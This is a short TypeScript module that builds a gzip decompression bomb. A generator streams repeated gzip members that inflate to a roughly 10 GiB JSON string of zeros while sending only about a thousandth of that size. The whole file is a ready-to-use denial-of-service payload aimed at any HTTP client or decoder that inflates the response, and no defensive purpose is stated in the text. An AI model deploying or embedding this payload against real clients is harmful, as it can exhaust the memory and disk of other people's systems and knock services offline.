import { gzipSync } from 'node:zlib';

/** Of zeros, in bytes. */
export const bombSize = 10 * 2 ** 30;

const member = 4 * 2 ** 20;
let zeros: Buffer | undefined;

/** `{"zeros":"000…"}` with so many bytes of zeros, as gzip of a thousandth: members in a row, which any decoder joins. */
export function* gzipBomb(bytes = bombSize): Generator<Buffer> {
  zeros ??= gzipSync(Buffer.alloc(member, '0'));
  yield gzipSync('{"zeros":"');
  for (let sent = 0; sent < bytes; sent += member) yield zeros;
  yield gzipSync('"}');
}
